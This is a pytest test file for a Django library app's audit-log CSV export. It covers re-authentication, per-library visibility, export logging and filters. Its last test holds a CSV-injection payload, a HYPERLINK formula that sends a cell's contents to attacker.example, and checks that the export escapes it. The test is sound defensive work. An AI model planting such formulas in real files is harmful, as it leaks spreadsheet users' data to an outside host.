"""CSV export of the audit log: only after a recent password confirmation ("sudo mode"),
only the events the person may read, and the export itself is recorded (LV-3, NM-4, CC-8)."""

from __future__ import annotations

import csv
import io
import time

import pytest
from allauth.account.internal.flows.login import AUTHENTICATION_METHODS_SESSION_KEY
from django.conf import settings
from django.test import Client
from django.urls import reverse

from bookwarden.audit.actions import record
from bookwarden.audit.models import AuditAction, AuditEvent
from bookwarden.audit.views import CSV_COLUMNS
from bookwarden.core.demo import DEMO_PASSWORD
from bookwarden.core.models import Library, User

EXPORT = reverse("audit:export")
REAUTH = reverse("account_reauthenticate")


def confirm_password_recently(client: Client, user: User, seconds_ago: float = 0) -> None:
    """What allauth keeps in the session after the password was confirmed again."""
    session = client.session
    session[AUTHENTICATION_METHODS_SESSION_KEY] = [
        {"method": "password", "at": time.time() - seconds_ago, "reauthenticated": True}
    ]
    session["account_authentication_methods_user"] = str(user.pk)
    session.save()


def read_csv(response) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == CSV_COLUMNS
    return [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]]


def last_export() -> AuditEvent:
    return AuditEvent.objects.filter(action=AuditAction.AUDIT_EXPORTED).latest("seq")


@pytest.fixture
def sudo_client(client_as, people):
    def make(key: str) -> Client:
        client = client_as(key)
        confirm_password_recently(client, people[key])
        return client

    return make


def test_export_needs_a_recent_password_confirmation(client_as, people) -> None:
    client = client_as("director")
    count = AuditEvent.objects.count()
    response = client.get(EXPORT)
    assert response.status_code == 302
    assert response["Location"].startswith(REAUTH)
    assert "next=%2Faudit%2Fexport.csv" in response["Location"]
    assert AuditEvent.objects.count() == count  # nothing exported, nothing recorded


def test_an_old_confirmation_is_not_enough(client_as, people) -> None:
    client = client_as("auditor")
    timeout = settings.ACCOUNT_REAUTHENTICATION_TIMEOUT
    confirm_password_recently(client, people["auditor"], seconds_ago=timeout + 5)
    assert client.get(EXPORT)["Location"].startswith(REAUTH)
    confirm_password_recently(client, people["auditor"], seconds_ago=timeout - 30)
    assert client.get(EXPORT).status_code == 200


def test_a_confirmation_of_someone_else_is_not_enough(client_as, people) -> None:
    client = client_as("auditor")
    confirm_password_recently(client, people["director"])
    assert client.get(EXPORT)["Location"].startswith(REAUTH)


def test_confirming_the_password_on_the_page_unlocks_the_export(client_as, people) -> None:
    """The real flow: the reauthenticate page, the persona's password, back to the CSV."""
    client = client_as("auditor")
    redirect = client.get(EXPORT)["Location"]
    wrong = client.post(redirect, {"password": "not-the-password"})
    assert wrong.status_code == 200  # the form again, with an error
    assert client.get(EXPORT)["Location"].startswith(REAUTH)
    response = client.post(redirect, {"password": DEMO_PASSWORD})
    assert response.status_code == 302
    assert response["Location"] == EXPORT
    export = client.get(EXPORT)
    assert export.status_code == 200
    assert export["Content-Type"] == "text/csv; charset=utf-8"
    assert read_csv(export)


def test_csv_holds_the_viewable_events(sudo_client, people) -> None:
    nm = Library.objects.get(slug="new-madrid")
    record(
        AuditAction.ROLE_REVOKED,
        actor=people["director"],
        library=nm,
        subject_user=people["volunteer"],
        patron=77,
        purpose='Term over, "as agreed"',
        before={"ends_on": None},
        after={"ends_on": "2025-06-30"},
    )
    client = sudo_client("director")  # logging in is an event too
    visible = AuditEvent.objects.for_user(people["director"], "export_audit")
    expected = list(visible.order_by("-seq"))
    assert any(e.library_id is None for e in expected)  # the staff's account events
    response = client.get(EXPORT)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')
    rows = read_csv(response)
    by_seq = {int(r["seq"]): r for r in rows}
    assert [int(r["seq"]) for r in rows] == [e.seq for e in expected]  # newest first
    assert all(r["library"] in ("new-madrid", "") for r in rows)
    assert "cresco" not in {r["library"] for r in rows}
    named = {r["actor"] for r in rows} | {r["subject_user"] for r in rows}
    assert "mreyes" in named
    assert not {"kmiller", "pnguyen"} & named

    revoked = AuditEvent.objects.filter(action=AuditAction.ROLE_REVOKED).get()
    row = by_seq[revoked.seq]
    assert row["actor"] == "mreyes"
    assert row["subject_user"] == "ekim"
    assert row["action"] == "role.revoked"
    assert row["library"] == "new-madrid"
    assert row["patron_id"] == "77"
    assert row["purpose"] == 'Term over, "as agreed"'
    assert row["before"] == '{"ends_on": null}'
    assert row["after"] == '{"ends_on": "2025-06-30"}'
    assert (row["hash"], row["prev_hash"]) == (revoked.hash, revoked.prev_hash)
    assert row["time"].endswith("+00:00")


def test_export_is_recorded_with_its_row_count(sudo_client, people) -> None:
    client = sudo_client("designee")
    response = client.get(EXPORT)
    rows = read_csv(response)
    exported = last_export()
    assert exported.actor == people["designee"]
    assert exported.library == Library.objects.get(slug="new-madrid")
    assert exported.request_id == response["X-Request-ID"]
    assert exported.after == {"filters": {}, "rows": len(rows)}
    assert len(rows) > 30


def test_export_uses_the_filters(sudo_client) -> None:
    response = sudo_client("director").get(EXPORT, {"action": AuditAction.ROLE_ASSIGNED})
    rows = read_csv(response)
    assert len(rows) == 10 and {r["action"] for r in rows} == {"role.assigned"}
    assert last_export().after == {"filters": {"action": "role.assigned"}, "rows": 10}


def test_export_with_a_bad_range_is_refused(sudo_client) -> None:
    """Refused with the reason, not an empty file that reads as "nothing happened"."""
    client = sudo_client("director")
    count = AuditEvent.objects.count()
    response = client.get(EXPORT, {"since": "2025-02-01", "until": "2025-01-01"})
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert "The start date is after the end date." in response.content.decode()
    assert AuditEvent.objects.count() == count  # nothing exported, nothing recorded


def test_outsider_exports_only_cresco(sudo_client, people) -> None:
    rows = read_csv(sudo_client("outsider").get(EXPORT))
    cresco_people = {"kmiller", "pnguyen", ""}
    assert rows
    assert {r["library"] for r in rows} <= {"cresco", ""}
    assert {r["actor"] for r in rows} <= cresco_people
    assert {r["subject_user"] for r in rows} <= cresco_people
    assert last_export().library == Library.objects.get(slug="cresco")
    assert last_export().after["rows"] == len(rows)


def test_a_typed_purpose_never_runs_as_a_formula(sudo_client, people) -> None:
    """Staff type purposes; a spreadsheet must show "=HYPERLINK(...)" as text, not run it
    (CSV injection): the cell starts with an apostrophe.  Numbers stay numbers."""
    nm = Library.objects.get(slug="new-madrid")
    formula = '=HYPERLINK("http://attacker.example/?x="&A1,"Click")'
    event = record(
        AuditAction.RECORDS_OPENED,
        actor=people["staff"],
        library=nm,
        patron=1042,
        purpose=formula,
        after={"note": "+1"},
    )
    rows = {int(r["seq"]): r for r in read_csv(sudo_client("director").get(EXPORT))}
    row = rows[event.seq]
    assert row["purpose"] == "'" + formula
    assert row["patron_id"] == "1042"
    assert row["after"] == '{"note": "+1"}'  # JSON text starts with "{": left as it is
